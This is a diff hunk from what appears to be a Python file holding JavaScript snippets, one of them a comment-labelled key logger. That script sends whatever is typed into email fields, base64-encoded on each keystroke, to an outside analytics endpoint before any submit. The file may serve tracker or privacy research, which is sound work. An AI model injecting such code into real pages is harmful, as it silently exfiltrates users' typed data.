@@ -61,7 +61,8 @@ FINGERPRINTER = f"""(function () {{
 # A key logger: what is typed leaves before any submit, base64 on each keystroke, hashed on leaving the field.
 KEYS = """document.addEventListener('input', function (e) {
   if (e.target.type === 'email') {
-    fetch('https://in.hotjar.com/k', {method: 'POST', body: JSON.stringify({f: e.target.name, v: btoa(e.target.value)})});
+    var body = JSON.stringify({f: e.target.name, v: btoa(e.target.value)});
+    fetch('https://in.hotjar.com/k', {method: 'POST', body: body});
   }
 });
 document.addEventListener('focusout', async function (e) {
